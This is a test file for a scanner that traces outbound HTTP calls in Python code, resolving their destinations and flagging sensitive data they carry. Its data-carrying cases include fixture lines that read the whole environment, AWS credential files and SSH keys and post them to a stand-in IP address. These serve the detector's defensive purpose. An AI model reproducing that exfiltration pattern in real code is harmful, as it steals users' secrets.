// Destinations (constant folding, env vars, parameters, SDK base URLs) and what a call carries
// (credentials, sensitive data sources that raise the risk and are named in the message).
import { findingMessage } from '../src/report/wording.js';
import type { Destination, Finding } from '../src/types.js';
import { scanText } from './helpers/engine.js';

async function only(code: string): Promise<Finding> {
  const result = await scanText(code, 'app.py');
  const last = code.trimEnd().split('\n').length;
  const at = result.findings.filter((f) => f.startLine === last);
  if (at.length !== 1) throw new Error(`expected one finding on line ${last}, got ${JSON.stringify(result.findings)}`);
  return at[0]!;
}

const HEAD = 'import os, requests\nfrom urllib.parse import urljoin\nBASE = "https://api.example.net"\n';

const destinations: [string, string, Destination][] = [
  [
    'literal',
    'requests.post("https://a.example.net/x")',
    { host: 'a.example.net', scheme: 'https', source: 'literal' },
  ],
  ['module constant', 'requests.post(BASE)', { host: 'api.example.net', scheme: 'https', source: 'constant' }],
  ['concatenation', 'requests.post(BASE + "/v1")', { host: 'api.example.net', scheme: 'https', source: 'constant' }],
  [
    'f-string with a constant',
    'requests.post(f"{BASE}/v1/x")',
    { host: 'api.example.net', scheme: 'https', source: 'literal' },
  ],
  [
    '.format positional',
    'requests.post("{}/v1".format(BASE))',
    { host: 'api.example.net', scheme: 'https', source: 'constant' },
  ],
  [
    '.format keyword',
    'requests.post("https://{h}/x".format(h="k.example.com"))',
    { host: 'k.example.com', scheme: 'https', source: 'constant' },
  ],
  [
    '% with a constant',
    'requests.post("%s/v1" % BASE)',
    { host: 'api.example.net', scheme: 'https', source: 'constant' },
  ],
  [
    '% with a tuple',
    'requests.post("%s://%s/v1" % ("https", "t.example.org"))',
    { host: 't.example.org', scheme: 'https', source: 'constant' },
  ],
  [
    'urljoin',
    'requests.post(urljoin(BASE, "/v1/events"))',
    { host: 'api.example.net', scheme: 'https', source: 'constant' },
  ],
  [
    'urljoin with a dynamic path',
    'def f(p):\n    requests.post(urljoin(BASE, p))',
    { host: 'api.example.net', scheme: 'https', source: 'constant' },
  ],
  ['os.environ[...]', 'requests.post(os.environ["HOOK_URL"])', { source: 'env', detail: 'env HOOK_URL' }],
  ['os.getenv', 'requests.post(os.getenv("HOOK_URL"))', { source: 'env', detail: 'env HOOK_URL' }],
  [
    'os.environ.get with a default',
    'requests.post(os.environ.get("HOOK_URL", "https://d.example.com/x"))',
    { source: 'env', detail: 'env HOOK_URL (default d.example.com)', host: 'd.example.com', scheme: 'https' },
  ],
  [
    'env or constant',
    'URL = os.getenv("URL") or "https://f.example.com"\nrequests.post(URL)',
    { source: 'env', detail: 'env URL (default f.example.com)', host: 'f.example.com', scheme: 'https' },
  ],
  [
    'env var with a loopback default (the deployment decides)',
    'requests.post(os.getenv("U", "http://localhost:8080/x"))',
    { source: 'env', detail: 'env U (default localhost:8080)' },
  ],
  [
    'env var inside the host',
    'requests.post("https://" + os.environ["HOST"] + "/x")',
    { source: 'env', detail: 'env HOST', scheme: 'https' },
  ],
  ['parameter', 'def f(url):\n    requests.post(url)', { source: 'parameter', detail: 'parameter url' }],
  [
    'parameter with a default',
    'def f(url="https://p.example.com/x"):\n    requests.post(url)',
    { source: 'parameter', detail: 'parameter url (default p.example.com)', host: 'p.example.com', scheme: 'https' },
  ],
  [
    'parameter inside an f-string host',
    'def f(host):\n    requests.post(f"https://{host}/x")',
    { source: 'parameter', detail: 'parameter host', scheme: 'https' },
  ],
  [
    'settings object (dynamic, named)',
    'from django.conf import settings\nrequests.post(settings.API_URL)',
    { source: 'dynamic', detail: '`settings.API_URL`' },
  ],
  [
    'f-string with a settings attribute in the host',
    'from django.conf import settings\nrequests.post(f"https://{settings.HOST}/x")',
    { source: 'dynamic', detail: '`f"https://{settings.HOST}/x"`', scheme: 'https' },
  ],
  ['function result (dynamic, named)', 'requests.post(get_url())', { source: 'dynamic', detail: '`get_url()`' }],
];

describe('destinations', () => {
  it.each(destinations)('%s', async (_n, code, want) => {
    const f = await only(HEAD + code);
    expect(f.destination).toEqual(want);
  });

  it('an env default host is the destination, and the message names the setting that can move it', async () => {
    const f = await only(HEAD + 'requests.post(os.environ.get("HOOK_URL", "https://d.example.com/x"))');
    expect(findingMessage(f)).toBe(
      'Sends data to d.example.com (default of env HOOK_URL) (requests (HTTP)) via requests.post.',
    );
  });

  it('a known SDK uses its default host', async () => {
    const f = await only('from openai import OpenAI\nOpenAI().chat.completions.create(model="m", messages=[])');
    expect(f.destination).toEqual({ host: 'api.openai.com', source: 'default' });
  });

  it('a known SDK pointed at a foreign base_url is reported with that host', async () => {
    const f = await only(
      'from openai import OpenAI\nc = OpenAI(base_url="https://llm.internal.example/v1")\nc.chat.completions.create(model="m", messages=[])',
    );
    expect(f.ruleId).toBe('ai.openai');
    expect(f.destination).toEqual({ host: 'llm.internal.example', scheme: 'https', source: 'literal' });
    expect(findingMessage(f)).toContain('llm.internal.example (OpenAI)');
  });

  it('a known SDK with base_url from the environment says so', async () => {
    const f = await only(
      'import os\nfrom openai import OpenAI\nc = OpenAI(base_url=os.environ["OPENAI_BASE_URL"])\nc.embeddings.create(model="m", input="x")',
    );
    expect(f.destination).toEqual({ source: 'env', detail: 'env OPENAI_BASE_URL' });
  });

  it('a relative path on a client call takes the base_url of the client', async () => {
    const f = await only('import httpx\nc = httpx.Client(base_url="https://b.example.net")\nc.post("/upload")');
    expect(f.destination.host).toBe('b.example.net');
  });

  it('functools.partial keeps the bound URL', async () => {
    const f = await only(
      'import functools, requests\nsend = functools.partial(requests.post, "https://api.example.net/x")\nsend(json={})',
    );
    expect(f.destination).toEqual({ host: 'api.example.net', scheme: 'https', source: 'literal' });
  });

  it('a generic client takes the service of the env default host', async () => {
    const f = await only(
      'import os, requests\nrequests.post(os.getenv("SLACK_WEBHOOK_URL", "https://hooks.slack.com/services/T/B/X"), json={})',
    );
    expect(f.service).toBe('Slack');
    expect(f.destination.source).toBe('env');
  });
});

describe('what a call carries', () => {
  const target = 'requests.post("http://198.51.100.7/c", json=payload)';
  const cases: [string, string, string][] = [
    ['the whole environment', 'payload = dict(os.environ)', 'os.environ'],
    ['environment copy', 'payload = {"env": os.environ.copy()}', 'os.environ'],
    [
      'AWS credential file',
      'payload = open(os.path.expanduser("~/.aws/credentials")).read()',
      'credential file .aws/credentials',
    ],
    ['SSH key', 'payload = Path.home().joinpath(".ssh/id_rsa").read_text()', 'credential file .ssh/'],
    ['host name', 'payload = {"h": socket.gethostname()}', 'socket.gethostname()'],
    ['user name', 'payload = {"u": getpass.getuser()}', 'getpass.getuser()'],
    ['platform node', 'payload = {"n": platform.node()}', 'platform.node()'],
  ];
  it.each(cases)('%s raises the risk and is named in the message', async (_n, line, source) => {
    const code = `import os, socket, getpass, platform, requests\nfrom pathlib import Path\ndef beacon():\n    ${line}\n    ${target}`;
    const f = await only(code);
    expect(f.dataSources).toContain(source);
    expect(f.risk).toBe('high'); // network is medium by default
    expect(findingMessage(f)).toMatch(
      new RegExp(`^Sends .*${source.replace(/[.()]/g, '\\$&')}.* to 198\\.51\\.100\\.7 `),
    );
  });

  it('a payload built directly in the call', async () => {
    const f = await only('import os, requests\nrequests.post("http://198.51.100.7/c", json=dict(os.environ))');
    expect(findingMessage(f)).toBe('Sends os.environ to 198.51.100.7 (requests (HTTP)) via requests.post.');
    expect(f.risk).toBe('high');
    expect(f.cwe).toContain(319);
  });

  it('sources in another function are not counted', async () => {
    const f = await only(
      'import os, requests\ndef other():\n    payload = dict(os.environ)\ndef send(payload):\n    requests.post("https://x.example.net", json=payload)',
    );
    expect(f.dataSources).toEqual([]);
    expect(f.risk).toBe('medium');
  });

  it('one env var by name is not the whole environment', async () => {
    const f = await only(
      'import os, requests\nrequests.post("https://x.example.net", json={"r": os.environ["REGION"]})',
    );
    expect(f.dataSources).toEqual([]);
  });

  it('secret-like env var segments are recorded as credentials (call and constructor)', async () => {
    const f = await only(
      'import os, requests\ns = requests.Session()\ns.headers["Authorization"] = os.environ["SVC_API_TOKEN"]\nc = requests.Session()\nc.post("https://x.example.net", headers={"X-Key": os.getenv("PARTNER_KEY")}, data=os.environ.get("MONKEY_BUSINESS"))',
    );
    expect(f.credentials).toContain('PARTNER_KEY');
    expect(f.credentials).not.toContain('MONKEY_BUSINESS');
  });

  it('credentials given to the client constructor are recorded at the send site', async () => {
    const f = await only(
      'import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ["MY_LLM_API_KEY"])\nc.chat.completions.create(model="m", messages=[])',
    );
    expect(f.credentials).toEqual(expect.arrayContaining(['MY_LLM_API_KEY', 'OPENAI_API_KEY']));
  });
});
